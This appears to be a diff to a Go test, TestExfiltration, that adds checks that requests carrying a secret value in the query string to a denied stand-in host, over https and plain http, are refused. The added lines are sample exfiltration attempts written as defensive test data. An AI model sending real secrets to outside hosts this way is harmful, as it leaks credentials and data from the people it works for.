@@ -62,6 +62,10 @@ func TestExfiltration(t *testing.T) {
 		}
 		t.Errorf("%s: no decision says so", name)
 	}
+	before := s.Mark()
+	refusedAs(t, "a host that is denied anyway", s.get(t, "https://denied.test/?x="+url.QueryEscape(real)), before)
+	before = s.Mark()
+	refusedAs(t, "a host that is denied, in clear text", s.get(t, "http://denied.test/?x="+url.QueryEscape(real)), before)
 	for _, f := range formsOf(real) {
 		for _, h2 := range []bool{false, true} {
 			c := s.Client(t, h2)
